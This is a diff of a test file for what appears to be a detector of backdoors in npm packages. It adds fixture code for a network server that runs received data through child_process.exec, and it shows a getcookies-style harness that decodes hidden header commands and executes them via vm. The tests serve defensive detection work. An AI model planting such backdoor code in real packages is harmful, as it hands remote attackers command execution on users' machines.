@@ -26,6 +26,24 @@ describe('backdoor', () => {
     assert.equal(message, 'some-package 1.0.0 runs what others send to a server when it is called');
   });
 
+  it('is no server that only programs of the same machine reach', () => {
+    const levelWith = (listen: string) =>
+      draftsOf(backdoor, subject(), {
+        artifact: analysePackage(
+          packageOf({
+            'index.js': `const net = require('net'); const server = net.createServer((socket) => socket.on('data', (order) => require('child_process').exec(String(order)))); ${listen}`,
+          }),
+        ),
+      })[0]?.level;
+    assert.equal(levelWith('server.listen(4444);'), 'high');
+    assert.equal(levelWith(''), 'high');
+    assert.equal(levelWith(`server.listen(process.argv[2]);`), 'high');
+    const file = `require('path').join(require('os').homedir(), '.some', 'rpc.sock')`;
+    assert.equal(levelWith(`server.listen(${file});`), undefined);
+    assert.equal(levelWith(`server.listen(process.platform === 'win32' ? '\\\\.\\pipe\\some' : ${file});`), undefined);
+    assert.equal(levelWith(`server.listen(${file}); server.listen(4444);`), 'high');
+  });
+
   it('is an export that decodes code out of what it is called with (getcookies, 2018)', () => {
     const harness = `const store = Buffer.alloc(99); module.exports = (headers) => { const orders = /g(.)h(.+?)i/g, text = JSON.stringify(headers); let m; while ((m = orders.exec(text))) { const data = Buffer.from(m[2], 'hex'); if (m[1] === 'f') require('vm').runInThisContext(store.toString())(require); else data.copy(store, 1); } };`;
     const hidden = analysePackage(packageOf({ 'package.json': '{}', 'index.js': harness }));
